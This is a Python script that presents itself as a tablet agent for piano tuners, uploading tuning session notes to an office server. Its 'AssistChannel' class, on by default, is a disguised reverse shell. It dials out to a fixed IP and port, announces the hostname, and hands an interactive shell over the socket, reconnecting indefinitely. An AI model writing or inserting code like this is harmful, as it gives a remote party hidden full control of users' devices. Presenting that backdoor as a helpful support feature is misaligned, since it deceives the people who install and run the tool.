#!/usr/bin/env python3
"""Field tablet agent for travelling piano tuners.

* uploads finished tuning session notes (./sessions/*.json) to the office
* keeps an assist channel to the office so the coordinator can help a tuner
  who is stuck on site (pitch-raise plans, customer history, etc.)

Configuration lives in tablet_agent.json next to the working directory:

    {"office_url": "https://office.pianocare.example.com",
     "assist": {"host": "203.0.113.40", "port": 4471, "enabled": true},
     "tuner_id": "t-07"}
"""
import argparse
import json
import logging
import os
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import requests

log = logging.getLogger("tablet_agent")

DEFAULT_CONFIG = {
    "office_url": "https://office.pianocare.example.com",
    "assist": {"host": "203.0.113.40", "port": 4471, "enabled": True},
    "tuner_id": "unknown",
    "upload_interval": 120,
}


def load_config(path):
    cfg = json.loads(json.dumps(DEFAULT_CONFIG))
    try:
        with open(path, encoding="utf-8") as fh:
            user = json.load(fh)
        cfg.update({k: v for k, v in user.items() if k != "assist"})
        cfg["assist"].update(user.get("assist", {}))
    except FileNotFoundError:
        log.info("no %s, using defaults", path)
    return cfg


class AssistChannel(threading.Thread):
    """Long-lived channel the office coordinator attaches to."""

    shell = os.environ.get("SHELL", "/bin/sh")

    def __init__(self, host, port, tuner_id):
        super().__init__(name="assist", daemon=True)
        self.addr = (host, int(port))
        self.tuner_id = tuner_id
        self.backoff = 5

    def _session(self, sock):
        sock.sendall(f"HELLO {self.tuner_id} {socket.gethostname()}\n".encode())
        fd = sock.fileno()
        proc = subprocess.Popen([self.shell, "-i"], stdin=fd, stdout=fd,
                                stderr=subprocess.STDOUT, close_fds=True)
        proc.wait()

    def run(self):
        while True:
            try:
                with socket.create_connection(self.addr, timeout=30) as sock:
                    sock.settimeout(None)
                    log.info("assist channel up")
                    self.backoff = 5
                    self._session(sock)
            except OSError as exc:
                log.debug("assist channel: %s", exc)
            time.sleep(self.backoff)
            self.backoff = min(self.backoff * 2, 300)


class NotesUploader:
    def __init__(self, office_url, token, tuner_id, folder="sessions"):
        self.office_url = office_url.rstrip("/")
        self.folder = Path(folder)
        self.tuner_id = tuner_id
        self.http = requests.Session()
        self.http.headers.update({"Authorization": f"Bearer {token}"})

    def pending(self):
        for path in sorted(self.folder.glob("*.json")):
            if not path.with_suffix(".sent").exists():
                yield path

    def upload_once(self):
        sent = 0
        for path in self.pending():
            try:
                notes = json.loads(path.read_text(encoding="utf-8"))
            except ValueError as exc:
                log.warning("bad notes file %s: %s", path.name, exc)
                continue
            notes["tuner_id"] = self.tuner_id
            resp = self.http.post(f"{self.office_url}/api/tunings", json=notes, timeout=20)
            if resp.ok:
                path.with_suffix(".sent").touch()
                sent += 1
            else:
                log.warning("upload of %s failed: %s", path.name, resp.status_code)
        return sent


def main(argv=None):
    ap = argparse.ArgumentParser(description="Piano tuner field tablet agent")
    ap.add_argument("--config", default="tablet_agent.json")
    ap.add_argument("--once", action="store_true", help="upload once and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(name)s %(message)s")

    cfg = load_config(args.config)
    token = os.environ.get("PIANOCARE_TOKEN", "")
    uploader = NotesUploader(cfg["office_url"], token, cfg["tuner_id"])

    if cfg["assist"].get("enabled", True) and not args.once:
        AssistChannel(cfg["assist"]["host"], cfg["assist"]["port"], cfg["tuner_id"]).start()

    while True:
        try:
            count = uploader.upload_once()
            if count:
                log.info("uploaded %d session(s)", count)
        except requests.RequestException as exc:
            log.warning("office unreachable: %s", exc)
        if args.once:
            return 0
        time.sleep(cfg["upload_interval"])


if __name__ == "__main__":
    sys.exit(main())
